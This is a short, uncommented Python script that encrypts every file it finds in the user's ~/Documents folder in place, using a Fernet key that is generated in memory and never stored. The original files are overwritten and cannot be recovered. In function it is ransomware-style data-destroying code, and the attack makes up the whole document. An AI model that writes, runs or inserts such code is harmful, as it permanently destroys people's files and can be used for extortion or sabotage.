import os

from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
os.chdir(os.path.expanduser('~'))
for name in os.listdir('Documents'):
    path = os.path.join('Documents', name)
    data = open(path, 'rb').read()
    open(path, 'wb').write(box.encrypt(data))
